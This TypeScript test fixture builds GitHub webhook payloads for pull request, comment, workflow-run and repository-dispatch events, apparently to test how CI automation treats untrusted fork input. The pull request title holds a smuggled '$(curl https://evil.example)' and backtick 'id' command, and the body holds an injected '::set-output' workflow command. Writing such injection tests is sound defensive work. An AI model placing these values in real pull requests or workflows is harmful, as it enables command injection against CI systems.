/** Payloads of events, in the shape in which GitHub sends them, cut to what tells them apart and its surroundings. */

const REPOSITORY = 'acme/models';

function user(login: string): object {
  return { login, id: login.length, type: login.endsWith('[bot]') ? 'Bot' : 'User', site_admin: false };
}

function repository(fullName: string): object {
  const [owner = '', name = ''] = fullName.split('/');
  const fork = fullName !== REPOSITORY;
  return {
    id: 1,
    name,
    full_name: fullName,
    private: false,
    owner: user(owner),
    fork,
    default_branch: 'main',
  };
}

function common(action: string, sender: string): object {
  return {
    action,
    repository: repository(REPOSITORY),
    organization: { login: 'acme', id: 2 },
    sender: user(sender),
  };
}

/** `pull_request` and `pull_request_target` of a branch in the repository `head`, opened by `author`. */
export function pullRequestEvent(head: string, author: string, sender = author): object {
  const [owner = ''] = head.split('/');
  return {
    ...common('synchronize', sender),
    number: 7,
    before: 'c'.repeat(40),
    after: 'a'.repeat(40),
    pull_request: {
      number: 7,
      state: 'open',
      title: '::error::$(curl https://evil.example) `id`',
      body: 'run-config: {lr: 1}\n::set-output name=x::y',
      user: user(author),
      author_association: head === REPOSITORY ? 'MEMBER' : 'FIRST_TIME_CONTRIBUTOR',
      head: {
        label: `${owner}:patch`,
        ref: 'patch',
        sha: 'a'.repeat(40),
        user: user(owner),
        repo: repository(head),
      },
      base: {
        label: 'acme:main',
        ref: 'main',
        sha: 'b'.repeat(40),
        user: user('acme'),
        repo: repository(REPOSITORY),
      },
      draft: false,
      merged: false,
    },
  };
}

/** `issue_comment`, written by `author`, on a pull request that `opener` opened. */
export function commentEvent(
  body: string,
  author: string,
  { action = 'created', sender = author, opener = author } = {},
): object {
  return {
    ...common(action, sender),
    issue: {
      number: 7,
      title: 'A pull request',
      user: user(opener),
      state: 'open',
      body: 'text',
      pull_request: { url: 'https://api.github.com/repos/acme/models/pulls/7' },
    },
    comment: {
      id: 41,
      user: user(author),
      body,
      author_association: 'NONE',
      created_at: '2026-11-26T00:00:00Z',
    },
  };
}

/** `workflow_run` after a run that `actor` caused in the repository `head`. */
export function workflowRunEvent(event: string, head: string, actor: string, again = actor): object {
  return {
    ...common('completed', again),
    workflow: { id: 3, name: 'tests', path: '.github/workflows/tests.yml', state: 'active' },
    workflow_run: {
      id: 30_433_642,
      name: 'tests',
      event,
      status: 'completed',
      conclusion: 'success',
      run_attempt: 1,
      head_branch: 'main',
      head_sha: 'a'.repeat(40),
      actor: user(actor),
      triggering_actor: user(again),
      repository: repository(REPOSITORY),
      head_repository: repository(head),
    },
  };
}

/** `repository_dispatch` as a webhook automation of W&B makes it, with `client_payload` over the usual one. */
export function dispatchEvent(clientPayload: object = {}): object {
  return {
    ...common('registry-alias', 'acme-automation'),
    branch: 'main',
    client_payload: {
      event_type: 'ADD_ARTIFACT_ALIAS',
      event_author: 'lavanya',
      alias: 'staging',
      artifact_version: 'acme-org/wandb-registry-model/detector:v3',
      artifact_version_string: 'acme-org/wandb-registry-model/detector:v3',
      artifact_collection_name: 'detector',
      project_name: 'wandb-registry-model',
      entity_name: 'acme-org',
      ...clientPayload,
    },
  };
}
